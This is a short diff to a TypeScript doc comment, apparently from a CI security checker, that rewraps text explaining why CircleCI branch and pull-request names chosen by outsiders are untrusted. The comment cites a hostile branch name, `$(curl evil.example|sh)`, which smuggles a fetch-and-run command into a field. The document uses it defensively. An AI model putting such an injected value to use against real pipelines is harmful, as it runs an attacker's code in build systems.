@@ -1,6 +1,7 @@
 /**
- * Pipeline values that somebody without the right to change the configuration can choose: whoever opens a pull request or pushes a branch names
- * it, and a name may be `$(curl evil.example|sh)`. https://circleci.com/docs/reference/variables/#pipeline-values
+ * Pipeline values that somebody without the right to change the configuration can choose: whoever opens a pull request
+ * or pushes a branch names it, and a name may be `$(curl evil.example|sh)`.
+ * https://circleci.com/docs/reference/variables/#pipeline-values
  */
 export function isChosenByOutsiders(expression: string): boolean {
   return (
